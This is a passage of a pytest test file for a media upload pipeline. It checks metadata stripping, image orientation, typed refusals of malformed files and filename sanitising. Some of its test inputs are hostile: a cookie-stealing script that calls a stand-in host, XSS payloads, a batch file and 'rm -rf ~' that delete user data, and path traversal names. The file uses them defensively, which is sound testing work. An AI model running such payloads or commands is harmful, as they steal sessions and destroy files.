"""The media pipeline: images come out clean and upright, bad files are refused with a typed
reason and leave nothing behind, documents are checked by their bytes, and the database side
(rows, orphan sweep, delete-if-unused) keeps files and rows in step, on SQLite and PostgreSQL."""

from __future__ import annotations

import asyncio
import hashlib
import io
import os
import struct
import threading
import time
import zipfile
import zlib
from datetime import date, timedelta
from pathlib import Path

import pytest
from PIL import ExifTags, Image, ImageChops, ImageCms, ImageDraw, ImageStat
from pypdf import PdfReader, PdfWriter
from sqlalchemy import delete, func, select

from media import store as media_store
from media.images import heif_available, prepare_image
from media.refusals import MediaRefusedError, RefusalReason
from media.sniffing import DOCX, looks_like_image, sniff_mime
from media.store import (
    EXTENSIONS,
    MediaStore,
    delete_media_if_unused,
    passed_on_name,
    relative_path_for,
    sweep_orphans,
)
from storage.evidence import NewEvidence, create_evidence
from storage.media_files import clean_file_name, media_references, record_media
from storage.models import (
    Evidence,
    EvidenceFile,
    EvidenceKind,
    MediaFile,
    MediaKind,
    Observation,
    Reflection,
)
from tests.factories import build_school

HOSTILE_DIR = Path(__file__).resolve().parent.parent / "data" / "hostile-images"
HOSTILE_FILES = sorted(path.name for path in HOSTILE_DIR.iterdir() if path.is_file())

# What Pillow's JPEG plugin reports for a bare JFIF header: nothing a pupil put there.
CLEAN_JPEG_INFO = {"jfif", "jfif_version", "jfif_unit", "jfif_density", "dpi"}

# Colours of the four quadrants of the upright test pattern: top-left, top-right,
# bottom-left, bottom-right.
QUADRANTS = ((220, 30, 30), (30, 200, 30), (30, 30, 220), (240, 220, 20))


# --- making test files -------------------------------------------------------------------------


def upright_pattern(size: tuple[int, int] = (300, 200)) -> Image.Image:
    width, height = size
    image = Image.new("RGB", size)
    draw = ImageDraw.Draw(image)
    half_w, half_h = width // 2, height // 2
    draw.rectangle((0, 0, half_w - 1, half_h - 1), fill=QUADRANTS[0])
    draw.rectangle((half_w, 0, width - 1, half_h - 1), fill=QUADRANTS[1])
    draw.rectangle((0, half_h, half_w - 1, height - 1), fill=QUADRANTS[2])
    draw.rectangle((half_w, half_h, width - 1, height - 1), fill=QUADRANTS[3])
    return image


def private_exif(orientation: int) -> Image.Exif:
    """EXIF as a phone writes it: orientation, camera, serial number and a GPS position."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 15"
    exif[ExifTags.Base.BodySerialNumber] = "SN-0042-SECRET"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (52.0, 22.0, 1.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (4.0, 53.0, 7.25)
    return exif


def srgb_icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def phone_jpeg(size: tuple[int, int] = (300, 200), **extra: object) -> bytes:
    """The upright pattern stored sideways with Orientation=6, as phones do, plus every kind
    of metadata: EXIF with GPS and serial, XMP, a comment, an ICC profile."""
    sideways = upright_pattern(size).transpose(Image.Transpose.ROTATE_90)
    buffer = io.BytesIO()
    sideways.save(
        buffer,
        "JPEG",
        quality=95,
        exif=private_exif(orientation=6),
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">home address</x:xmpmeta>',
        comment=b"made at home",
        icc_profile=srgb_icc(),
        **extra,
    )
    return buffer.getvalue()


def encode(image: Image.Image, fmt: str, **params: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims huge dimensions: a decompression bomb's opening."""

    def chunk(tag: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(tag + body)
        return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def animated(fmt: str) -> bytes:
    frames = [Image.new("RGB", (40, 30), colour) for colour in ("red", "blue", "green")]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, loop=0)


def docx_bytes(*, macros: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        if macros:
            archive.writestr("word/vbaProject.bin", b"\x00" * 16)
    return buffer.getvalue()


def odt_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"),
            "application/vnd.oasis.opendocument.text",
            compress_type=zipfile.ZIP_STORED,
        )
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def opus_bytes() -> bytes:
    # One Ogg page: 27-byte header, a one-entry segment table, then the Opus ID header.
    body = b"OpusHead\x01\x01\x38\x01\x80\xbb\x00\x00\x00\x00\x00"
    page = b"OggS\x00\x02" + b"\x00" * 8 + b"\x01\x00\x00\x00" + b"\x00" * 8
    return page + bytes([1, len(body)]) + body + b"\x00" * 200


def mp4_bytes(brand: bytes = b"isom") -> bytes:
    """ftyp, a moov with a bare mvhd (no dates, no metadata: nothing to clean), mdat."""
    ftyp = b"\x00\x00\x00\x18ftyp" + brand + b"\x00\x00\x02\x00" + brand + b"iso2"
    mvhd = (108).to_bytes(4, "big") + b"mvhd" + bytes(12) + (1000).to_bytes(4, "big") + bytes(84)
    moov = (8 + len(mvhd)).to_bytes(4, "big") + b"moov" + mvhd
    return ftyp + moov + b"\x00\x00\x00\x10mdat" + b"\x00" * 8


def one_page_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 100)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


PDF = one_page_pdf()


# --- checks ----------------------------------------------------------------------------------


def jpeg_markers(data: bytes) -> list[int]:
    """The segment markers of a JPEG up to the start of the scan."""
    markers: list[int] = []
    offset = 2
    while offset < len(data):
        assert data[offset] == 0xFF
        marker = data[offset + 1]
        markers.append(marker)
        if marker == 0xDA:
            break
        offset += 2 + int.from_bytes(data[offset + 2 : offset + 4], "big")
    return markers


def assert_clean_jpeg(data: bytes) -> Image.Image:
    """No EXIF (GPS, serial), XMP, IPTC, ICC or comment: only JFIF and the picture."""
    markers = jpeg_markers(data)
    assert not [marker for marker in markers if 0xE1 <= marker <= 0xEF], markers
    assert 0xFE not in markers  # COM
    assert b"Exif\x00\x00" not in data
    assert b"ns.adobe.com" not in data and b"xmpmeta" not in data
    image = Image.open(io.BytesIO(data))
    assert image.format == "JPEG"
    assert set(image.info) <= CLEAN_JPEG_INFO, image.info.keys()
    assert not image.getexif()
    return image


def quadrant_colours(image: Image.Image) -> list[tuple[int, ...]]:
    width, height = image.size
    rgb = image.convert("RGB")
    points = [(width // 4, height // 4), (3 * width // 4, height // 4)]
    points += [(width // 4, 3 * height // 4), (3 * width // 4, 3 * height // 4)]
    return [rgb.getpixel(point) for point in points]  # type: ignore[misc]


def assert_upright(image: Image.Image) -> None:
    for seen, wanted in zip(quadrant_colours(image), QUADRANTS, strict=True):
        assert max(abs(a - b) for a, b in zip(seen, wanted, strict=True)) < 40, (seen, wanted)


def files_under(root: Path) -> list[Path]:
    return sorted(path for path in root.rglob("*") if path.is_file()) if root.exists() else []


@pytest.fixture
def store(tmp_path: Path) -> MediaStore:
    return MediaStore(tmp_path / "media")


@pytest.fixture(scope="module")
def twelve_mp_jpeg() -> bytes:
    """A 12 MP (4032x3024) phone-like JPEG: gradients, noise and lines, Orientation=6."""
    size = (4032, 3024)
    red = Image.linear_gradient("L").resize(size)
    green = Image.radial_gradient("L").resize(size)
    blue = Image.blend(red.transpose(Image.Transpose.ROTATE_180), Image.effect_noise(size, 40), 0.5)
    image = Image.merge("RGB", (red, green, blue))
    draw = ImageDraw.Draw(image)
    for x in range(0, size[0], 97):
        draw.line((x, 0, size[0] - x, size[1]), fill=(x % 255, 80, 200), width=5)
    return encode(image, "JPEG", quality=92, exif=private_exif(orientation=6))


# --- images ------------------------------------------------------------------------------------


async def test_a_phone_photo_is_stored_upright_without_any_metadata(store: MediaStore):
    source = phone_jpeg()
    original = Image.open(io.BytesIO(source))
    assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the test file does carry GPS
    assert {"xmp", "comment", "icc_profile", "exif"} <= set(original.info)

    stored = await store.store_image(source, filename="IMG_0001.JPG")

    data = store.path_of(stored.image).read_bytes()
    image = assert_clean_jpeg(data)
    assert image.size == (300, 200)  # the sideways 200x300 pixels, turned upright
    assert_upright(image)
    assert stored.image.sha256 == hashlib.sha256(data).hexdigest()
    assert stored.image.relative_path == relative_path_for(stored.image.sha256, "image/jpeg")
    assert stored.image.relative_path.startswith(
        f"{stored.image.sha256[:2]}/{stored.image.sha256[2:4]}/"
    )
    assert (stored.image.kind, stored.image.mime_type) == (MediaKind.IMAGE, "image/jpeg")
    assert (stored.image.width, stored.image.height, stored.image.size_bytes) == (
        300,
        200,
        len(data),
    )
    assert stored.source_format == "JPEG"
    assert stored.original is None

    thumbnail = assert_clean_jpeg(await store.read(stored.thumbnail.relative_path))
    assert max(thumbnail.size) == 300  # no bigger than the image itself
    assert stored.thumbnail.kind == MediaKind.THUMBNAIL
    assert_upright(thumbnail)


async def test_a_large_photo_is_downscaled_and_gets_a_small_thumbnail(store: MediaStore):
    source = encode(upright_pattern((3000, 2000)), "PNG")

    stored = await store.store_image(source)

    image = assert_clean_jpeg(store.path_of(stored.image).read_bytes())
    assert image.size == (2048, 1365)
    assert_upright(image)
    thumbnail = assert_clean_jpeg(store.path_of(stored.thumbnail).read_bytes())
    assert thumbnail.size == (320, 213)
    assert_upright(thumbnail)
    assert sorted(path.name for path in files_under(store.root)) == sorted(
        Path(file.relative_path).name for file in stored.files
    )


@pytest.mark.timeout(30)
async def test_a_twelve_megapixel_jpeg_decodes_at_reduced_scale(
    store: MediaStore, twelve_mp_jpeg: bytes
):
    stored = await store.store_image(twelve_mp_jpeg)

    image = assert_clean_jpeg(store.path_of(stored.image).read_bytes())
    # Draft mode decodes 4032x3024 at 1/2: 2016 px, within 10% of (and not over) 2048.
    assert image.size == (1512, 2016)
    assert max(stored.thumbnail.width or 0, stored.thumbnail.height or 0) == 320


async def test_keep_original_adds_a_clean_full_resolution_copy(tmp_path: Path):
    store = MediaStore(tmp_path / "media", keep_original=True)
    source = phone_jpeg(size=(2400, 1600))

    stored = await store.store_image(source)

    assert stored.original is not None
    original = assert_clean_jpeg(store.path_of(stored.original).read_bytes())
    assert original.size == (2400, 1600)
    assert_upright(original)
    assert stored.original.kind == MediaKind.IMAGE
    assert max(assert_clean_jpeg(store.path_of(stored.image).read_bytes()).size) == 2048
    assert len(files_under(store.root)) == 3

    small = await store.store_image(phone_jpeg())
    assert small.original is None  # the main image is the original already


async def test_transparency_is_flattened_onto_white(store: MediaStore):
    image = Image.new("RGBA", (200, 100), (0, 0, 0, 0))
    image.paste((200, 0, 0, 255), (100, 0, 200, 100))
    source = encode(image, "PNG", icc_profile=srgb_icc())
    assert "icc_profile" in Image.open(io.BytesIO(source)).info

    stored = await store.store_image(source, filename="tekening.png")

    result = assert_clean_jpeg(store.path_of(stored.image).read_bytes()).convert("RGB")
    assert all(channel > 245 for channel in result.getpixel((30, 50)))  # type: ignore[union-attr]
    red, green, blue = result.getpixel((150, 50))  # type: ignore[misc]
    assert red > 180 and green < 40 and blue < 40


@pytest.mark.parametrize(
    ("name", "image"),
    [
        ("palette.gif", Image.new("P", (50, 40), 3)),
        ("screen.bmp", Image.new("RGB", (50, 40), "navy")),
        ("photo.webp", Image.new("RGB", (50, 40), "teal")),
        ("grey.png", Image.new("L", (50, 40), 128)),
        ("bits.png", Image.new("1", (50, 40), 1)),
        ("cmyk.jpg", Image.new("CMYK", (50, 40), (0, 100, 100, 0))),
    ],
)
async def test_other_accepted_formats_and_modes(store: MediaStore, name: str, image: Image.Image):
    fmt = {"gif": "GIF", "bmp": "BMP", "webp": "WEBP", "png": "PNG", "jpg": "JPEG"}
    source = encode(image, fmt[name.rsplit(".", 1)[1]])

    stored = await store.store_image(source, filename=name)

    result = assert_clean_jpeg(store.path_of(stored.image).read_bytes())
    assert result.size == (50, 40)


async def test_a_jpeg_with_a_second_picture_is_a_still_not_an_animation(store: MediaStore):
    # Pillow reports such files (iPhone HDR gain maps, 3D cameras) as MPO with two frames.
    first, second = upright_pattern((400, 300)), Image.new("RGB", (100, 75), "black")
    source = encode(first, "MPO", save_all=True, append_images=[second])
    assert Image.open(io.BytesIO(source)).format == "MPO"

    stored = await store.store_image(source)

    assert stored.source_format == "JPEG"
    image = assert_clean_jpeg(store.path_of(stored.image).read_bytes())
    assert image.size == (400, 300)
    assert_upright(image)


async def test_a_sixteen_bit_png_keeps_its_tones(store: MediaStore):
    source = encode(Image.new("I;16", (40, 40), 32768), "PNG")

    stored = await store.store_image(source)

    result = assert_clean_jpeg(store.path_of(stored.image).read_bytes())
    assert 110 < ImageStat.Stat(result.convert("L")).mean[0] < 145  # mid grey, not white


async def test_a_non_srgb_icc_profile_is_converted_then_dropped(store: MediaStore):
    # An sRGB profile under another name: converted like a Display P3 one would be, and the
    # colours must come through (the same primaries) while the profile does not.
    renamed = srgb_icc().replace("sRGB".encode("utf-16-be"), "Test".encode("utf-16-be"))
    assert ImageCms.getProfileDescription(ImageCms.ImageCmsProfile(io.BytesIO(renamed))) != (
        ImageCms.getProfileDescription(ImageCms.ImageCmsProfile(io.BytesIO(srgb_icc())))
    )
    source = encode(upright_pattern(), "JPEG", icc_profile=renamed)

    stored = await store.store_image(source)

    assert_upright(assert_clean_jpeg(store.path_of(stored.image).read_bytes()))


async def test_a_broken_icc_profile_is_dropped_not_refused(store: MediaStore):
    source = encode(upright_pattern(), "JPEG", icc_profile=b"not really a profile" * 10)

    stored = await store.store_image(source)

    assert_upright(assert_clean_jpeg(store.path_of(stored.image).read_bytes()))


@pytest.mark.skipif(not heif_available(), reason="pillow-heif is not installed")
async def test_an_iphone_heic_is_accepted_upright_and_clean(store: MediaStore):
    sideways = upright_pattern().transpose(Image.Transpose.ROTATE_90)
    try:
        source = encode(sideways, "HEIF", exif=private_exif(orientation=6).tobytes(), quality=90)
    except (OSError, KeyError, ValueError) as error:
        pytest.skip(f"this pillow-heif cannot encode HEIC: {error}")
    assert sniff_mime(source) == "image/heic"

    stored = await store.store_image(source, filename="IMG_0002.HEIC")

    assert stored.source_format == "HEIF"
    image = assert_clean_jpeg(store.path_of(stored.image).read_bytes())
    assert image.size == (300, 200)
    assert_upright(image)


async def test_heic_without_the_plugin_is_refused_with_its_own_reason(tmp_path: Path):
    store = MediaStore(tmp_path / "media", heif=False)

    with pytest.raises(MediaRefusedError) as refused:
        await store.store_image((HOSTILE_DIR / "hopper.heif").read_bytes(), filename="a.heic")

    assert refused.value.reason is RefusalReason.HEIC_UNSUPPORTED
    assert files_under(store.root) == []


def _truncated_jpeg() -> bytes:
    data = encode(Image.effect_noise((400, 300), 60).convert("RGB"), "JPEG")
    return data[: len(data) // 2]


REFUSALS = {
    "zero bytes": (b"", None, RefusalReason.EMPTY),
    "25 MB": (b"\xff\xd8\xff" + bytes(25 * 1024 * 1024), "big.jpg", RefusalReason.TOO_LARGE),
    "text renamed .jpg": (b"Dit is mijn werkstuk.\n" * 20, "foto.jpg", RefusalReason.NOT_AN_IMAGE),
    "a PDF as photo": (PDF, "werk.pdf", RefusalReason.NOT_AN_IMAGE),
    "truncated JPEG": (_truncated_jpeg(), "cut.jpg", RefusalReason.TRUNCATED),
    "bomb header": (png_claiming(100_000, 100_000), "bomb.png", RefusalReason.TOO_MANY_PIXELS),
    "50 MP header": (png_claiming(10_000, 5_000), "big.png", RefusalReason.TOO_MANY_PIXELS),
    "animated GIF": (animated("GIF"), "dans.gif", RefusalReason.ANIMATED),
    "animated PNG": (animated("PNG"), "dans.png", RefusalReason.ANIMATED),
    "animated WebP": (animated("WEBP"), "dans.webp", RefusalReason.ANIMATED),
    "TIFF": (
        encode(Image.new("RGB", (8, 8)), "TIFF"),
        "scan.tif",
        RefusalReason.UNSUPPORTED_FORMAT,
    ),
    "PNG signature, garbage after": (
        b"\x89PNG\r\n\x1a\n" + b"\x00" * 40,
        None,
        RefusalReason.BROKEN,
    ),
}


@pytest.mark.parametrize("case", list(REFUSALS))
async def test_refusals_are_typed_and_store_nothing(store: MediaStore, case: str):
    data, filename, reason = REFUSALS[case]

    with pytest.raises(MediaRefusedError) as refused:
        await store.store_image(data, filename=filename)

    assert refused.value.reason is reason
    assert files_under(store.root) == []


@pytest.mark.filterwarnings("error::PIL.Image.DecompressionBombWarning")
def test_a_decompression_bomb_warning_turned_error_is_a_typed_refusal():
    # 100 MP: above Pillow's warning threshold (89 MP), below its error threshold.
    with pytest.raises(MediaRefusedError) as refused:
        prepare_image(png_claiming(10_000, 10_000))
    assert refused.value.reason is RefusalReason.TOO_MANY_PIXELS


def test_a_decompression_bomb_warning_is_followed_by_a_refusal():
    with pytest.warns(Image.DecompressionBombWarning), pytest.raises(MediaRefusedError) as refused:
        prepare_image(png_claiming(10_000, 10_000))
    assert refused.value.reason is RefusalReason.TOO_MANY_PIXELS


def test_limits_are_configurable_but_not_above_pillows(tmp_path: Path):
    store = MediaStore(tmp_path, max_pixels=1_000)
    with pytest.raises(MediaRefusedError) as refused:
        prepare_image(encode(Image.new("RGB", (40, 40)), "PNG"), options=store.options)
    assert refused.value.reason is RefusalReason.TOO_MANY_PIXELS

    assert Image.MAX_IMAGE_PIXELS is not None
    with pytest.raises(ValueError, match="MAX_IMAGE_PIXELS"):
        MediaStore(tmp_path, max_pixels=Image.MAX_IMAGE_PIXELS + 1)


async def test_identical_uploads_share_one_file(store: MediaStore):
    source = phone_jpeg()

    first = await store.store_image(source)
    second = await store.store_image(source)

    assert first == second
    assert len(files_under(store.root)) == 2  # the image and its thumbnail, once


async def test_decoding_runs_off_the_event_loop(store: MediaStore, monkeypatch):
    threads: list[int] = []
    real = media_store.prepare_image

    def spy(*args, **kwargs):
        threads.append(threading.get_ident())
        return real(*args, **kwargs)

    monkeypatch.setattr(media_store, "prepare_image", spy)
    await store.store_image(phone_jpeg())
    assert threads and threads[0] != threading.get_ident()


async def test_no_temporary_files_are_left_behind(store: MediaStore):
    await store.store_image(phone_jpeg())
    await store.store_file(PDF, kind=MediaKind.DOCUMENT, filename="werk.pdf")
    assert not [path for path in files_under(store.root) if path.name.startswith(".tmp-")]


async def test_paths_outside_the_store_are_refused(store: MediaStore):
    for bad in ("../etc/passwd", "ab/cd/../../x.jpg", "/etc/passwd", "ab/cd/" + "0" * 64 + ".jpg"):
        with pytest.raises(ValueError):
            store.path_of(bad)


# --- the hostile corpus ------------------------------------------------------------------------

# Outcomes pinned for files whose handling matters; the rest must merely be accepted clean or
# refused with a typed reason.
HOSTILE_EXPECTED: dict[str, RefusalReason | None] = {
    "decompression_bomb.gif": RefusalReason.TOO_MANY_PIXELS,
    "decompression_bomb_extents.gif": RefusalReason.ANIMATED,
    "decompression_bomb.ico": RefusalReason.UNSUPPORTED_FORMAT,
    "truncated_jpeg.jpg": RefusalReason.TRUNCATED,
    "16bit.s.tif": RefusalReason.UNSUPPORTED_FORMAT,
    "combined_larger_than_size.psd": RefusalReason.UNSUPPORTED_FORMAT,
    "crash-4fb027452e6988530aa5dabee76eecacb3b79f8a.j2k": RefusalReason.UNSUPPORTED_FORMAT,
    "crash-754d9c7ec485ffb76a90eeaab191ef69a2a3a3cd.sgi": RefusalReason.UNSUPPORTED_FORMAT,
    "split_fdat_zero_chunk.png": RefusalReason.ANIMATED,
    "README.md": RefusalReason.NOT_AN_IMAGE,
    "exif_gps.jpg": None,
    "iptc.jpg": None,
    "hopper_bad_exif.jpg": None,
    "exif-ifd-offset.jpg": None,
    "hopper.heif": None if heif_available() else RefusalReason.HEIC_UNSUPPORTED,
    **{f"hopper_orientation_{n}.jpg": None for n in range(2, 9)},
    "hopper_orientation_6.webp": None,
}


@pytest.fixture(scope="module")
def hopper_upright() -> Image.Image:
    prepared = prepare_image((HOSTILE_DIR / "hopper.jpg").read_bytes())
    return Image.open(io.BytesIO(prepared.image.data)).convert("RGB")


@pytest.mark.timeout(10)
@pytest.mark.parametrize("route", ["photo", "file"])
@pytest.mark.parametrize("name", HOSTILE_FILES)
async def test_every_hostile_file_is_accepted_clean_or_refused_typed(
    tmp_path: Path, name: str, route: str, hopper_upright: Image.Image
):
    store = MediaStore(tmp_path / "media")
    data = (HOSTILE_DIR / name).read_bytes()
    # A photo arrives without a name; an image sent as a file has one. Same pipeline.
    filename = name if route == "file" else None
    started = time.monotonic()

    try:
        stored = await store.store_image(data, filename=filename)
    except MediaRefusedError as refused:
        assert isinstance(refused.reason, RefusalReason)
        assert files_under(store.root) == []
        outcome: RefusalReason | None = refused.reason
    else:
        outcome = None
        for file in stored.files:
            image = assert_clean_jpeg(store.path_of(file).read_bytes())
            assert max(image.size) <= 2048
        if name.startswith("hopper_orientation_"):
            # Every orientation, applied, gives the same upright picture as hopper.jpg.
            upright = Image.open(store.path_of(stored.image)).convert("RGB")
            assert upright.size == hopper_upright.size
            difference = ImageStat.Stat(ImageChops.difference(upright, hopper_upright))
            assert max(difference.mean) < 12, difference.mean

    assert time.monotonic() - started < 5
    if name in HOSTILE_EXPECTED:
        assert outcome is HOSTILE_EXPECTED[name]


def test_the_hostile_corpus_is_complete():
    assert len(HOSTILE_FILES) == 45
    assert {"LICENSE-Pillow", "README.md"} <= set(HOSTILE_FILES)


# --- documents, voice, video -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "kind", "filename", "declared", "mime"),
    [
        (
            "Mijn verslag ✓\n".encode(),
            MediaKind.DOCUMENT,
            "verslag.txt",
            "text/plain",
            "text/plain",
        ),
        (
            odt_bytes(),
            MediaKind.DOCUMENT,
            "verslag.odt",
            None,
            "application/vnd.oasis.opendocument.text",
        ),
        (opus_bytes(), MediaKind.VOICE, None, "audio/ogg", "audio/ogg"),
        (
            b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\x00" * 64,
            MediaKind.VOICE,
            "lied.mp3",
            None,
            "audio/mpeg",
        ),
        (mp4_bytes(b"M4A "), MediaKind.VOICE, "memo.m4a", "audio/x-m4a", "audio/mp4"),
        (mp4_bytes(), MediaKind.VIDEO, None, "video/mp4", "video/mp4"),
        (mp4_bytes(b"qt  "), MediaKind.VIDEO, "IMG_0003.MOV", "video/mp4", "video/quicktime"),
        (mp4_bytes(), MediaKind.DOCUMENT, "film.mp4", None, "video/mp4"),
    ],
)
async def test_files_with_nothing_to_clean_are_stored_byte_for_byte(
    store: MediaStore,
    data: bytes,
    kind: MediaKind,
    filename: str | None,
    declared: str | None,
    mime: str,
):
    stored = await store.store_file(
        data, kind=kind, filename=filename, declared_mime=declared, duration_seconds=7
    )

    assert store.path_of(stored).read_bytes() == data
    assert (stored.kind, stored.mime_type, stored.size_bytes) == (kind, mime, len(data))
    assert stored.duration_seconds == 7
    assert stored.relative_path.endswith("." + EXTENSIONS[mime])


@pytest.mark.parametrize(
    ("data", "filename", "mime"),
    [
        (PDF, "werkstuk.pdf", "application/pdf"),
        (docx_bytes(), "verslag.docx", DOCX),
    ],
)
async def test_pdf_and_office_files_are_stored_rewritten_under_their_own_hash(
    store: MediaStore, data: bytes, filename: str, mime: str
):
    stored = await store.store_file(data, kind=MediaKind.DOCUMENT, filename=filename)

    kept = store.path_of(stored).read_bytes()
    assert (stored.mime_type, stored.size_bytes) == (mime, len(kept))
    assert stored.sha256 == hashlib.sha256(kept).hexdigest()
    assert stored.relative_path.endswith("." + EXTENSIONS[mime])
    if mime == "application/pdf":
        assert len(PdfReader(io.BytesIO(kept)).pages) == 1
    else:
        with zipfile.ZipFile(io.BytesIO(kept)) as archive:
            assert archive.read("word/document.xml") == b"<w:document/>"


@pytest.mark.parametrize(
    ("data", "kind", "filename", "declared", "reason"),
    [
        (b"", MediaKind.DOCUMENT, "leeg.pdf", None, RefusalReason.EMPTY),
        (bytes(25 * 1024 * 1024), MediaKind.VIDEO, None, "video/mp4", RefusalReason.TOO_LARGE),
        (
            b"Dit is geen PDF",
            MediaKind.DOCUMENT,
            "werk.pdf",
            "application/pdf",
            RefusalReason.TYPE_MISMATCH,
        ),
        (b"\x00\x01\x02 binary", MediaKind.DOCUMENT, "werk.pdf", None, RefusalReason.TYPE_MISMATCH),
        (docx_bytes(), MediaKind.DOCUMENT, "werk.pdf", None, RefusalReason.TYPE_MISMATCH),
        (docx_bytes(macros=True), MediaKind.DOCUMENT, "werk.docm", None, RefusalReason.MACROS),
        (PDF, MediaKind.VOICE, None, None, RefusalReason.UNSUPPORTED_FORMAT),
        (
            b"\x00\x01\x02 binary",
            MediaKind.DOCUMENT,
            "werk.exe",
            None,
            RefusalReason.UNSUPPORTED_FORMAT,
        ),
        (phone_jpeg(), MediaKind.DOCUMENT, "IMG_0001.JPG", "image/jpeg", RefusalReason.IS_IMAGE),
        (
            encode(Image.new("RGB", (8, 8)), "TIFF"),
            MediaKind.DOCUMENT,
            "scan.tif",
            None,
            RefusalReason.IS_IMAGE,
        ),
    ],
)
async def test_files_are_refused_by_their_bytes(
    store: MediaStore,
    data: bytes,
    kind: MediaKind,
    filename: str | None,
    declared: str | None,
    reason: RefusalReason,
):
    with pytest.raises(MediaRefusedError) as refused:
        await store.store_file(data, kind=kind, filename=filename, declared_mime=declared)

    assert refused.value.reason is reason
    assert files_under(store.root) == []


async def test_store_file_does_not_take_images_kinds(store: MediaStore):
    with pytest.raises(ValueError):
        await store.store_file(PDF, kind=MediaKind.IMAGE)


def test_images_sent_as_files_can_be_routed():
    assert looks_like_image(phone_jpeg())
    assert looks_like_image((HOSTILE_DIR / "hopper.heif").read_bytes())
    assert not looks_like_image(PDF)
    assert not looks_like_image(mp4_bytes())


# --- what a computer would run, and names that lie ----------------------------------------------

ELF_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(50)


@pytest.mark.parametrize(
    ("data", "filename", "declared"),
    [
        (
            b"<html><body><script>fetch('https://x.example/?'+document.cookie)</script>",
            "evil.html",
            "text/html",
        ),
        (b"Mijn verslag\n<script>alert(1)</script>\n", "verslag.txt", "text/plain"),
        (
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
            b"<script>alert(1)</script></svg>",
            "tekening.svg",
            "image/svg+xml",
        ),
        (b'<svg onload="alert(1)"/>', "tekening.txt", None),
        (b"@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n", "opdracht.bat", None),
        (b"#!/bin/sh\nrm -rf ~\n", "opdracht.sh", "application/x-sh"),
        (WINDOWS_PROGRAM, "spel.exe", "application/x-msdownload"),
        (WINDOWS_PROGRAM, "verslag.pdf", "application/pdf"),
        (ELF_PROGRAM, "spel", None),
    ],
    ids=[
        "web page",
        "script in a .txt",
        "svg",
        "svg named .txt",
        "batch file",
        "shell script",
        "windows program",
        "program named .pdf",
        "linux program",
    ],
)
async def test_what_a_computer_would_run_is_refused_whatever_its_name(
    store: MediaStore, data: bytes, filename: str, declared: str | None
):
    with pytest.raises(MediaRefusedError) as refused:
        await store.store_file(
            data, kind=MediaKind.DOCUMENT, filename=filename, declared_mime=declared
        )

    assert refused.value.reason is RefusalReason.ACTIVE_CONTENT
    assert files_under(store.root) == []


@pytest.mark.parametrize(
    ("data", "filename", "declared", "passed_on"),
    [
        (b"Mijn verslag over krachten\n", "evil.html", "text/html", "evil.txt"),
        (b"Mijn verslag over krachten\n", "verslag\u202etxt.bat", None, "verslagtxt.txt"),
        (b"<3 voor mijn juf\n", "kaartje.js", "text/javascript", "kaartje.txt"),
        (b"MZ staat voor mijn initialen\n", "notitie.exe", None, "notitie.txt"),
        (PDF, "werkstuk.exe", "application/octet-stream", "werkstuk.pdf"),
        (docx_bytes(), "verslag", None, "verslag.docx"),
    ],
)
async def test_a_kept_file_is_passed_on_with_the_extension_of_what_it_is(
    store: MediaStore, data: bytes, filename: str, declared: str | None, passed_on: str
):
    stored = await store.store_file(
        data, kind=MediaKind.DOCUMENT, filename=filename, declared_mime=declared
    )

    assert passed_on_name(filename, stored.mime_type) == passed_on


@pytest.mark.parametrize(
    ("name", "extension", "clean"),
    [
        ("verslag\u202etxt.bat", "txt", "verslagtxt.txt"),
        ("\u2067lesje\u2069 \u200ftaal\u200e.docx", "docx", "lesje taal.docx"),
        ("werk\x00\x1b[31m\r\n.pdf", "pdf", "werk[31m.pdf"),
        ("../../etc/passwd", "txt", "passwd.txt"),
        ("..\\..\\Windows\\win.ini", "txt", "win.txt"),
        ("...", "txt", None),
        (".verborgen", "txt", "verborgen.txt"),
        ("foto.pdf.exe", "pdf", "foto.pdf"),
        ("werk.exe . . ", "pdf", "werk.pdf"),
        ("CON.txt", "txt", "_CON.txt"),
        ('wat? "ik" <wil> | dit*', "txt", "wat_ _ik_ _wil_ _ dit_.txt"),
        ("Hoofdstuk 1. Krachten", "pdf", "Hoofdstuk 1. Krachten.pdf"),
        ("IMG_2041.HEIC", "jpg", "IMG_2041.jpg"),
    ],
)
def test_file_names_are_cleaned(name: str | None, extension: str, clean: str | None):
    assert clean_file_name(name, extension) == clean
    # Cleaning a clean name changes nothing.
    assert clean is None or clean_file_name(clean, extension) == clean


@pytest.mark.parametrize("letter", ["a", "é", "😀"])
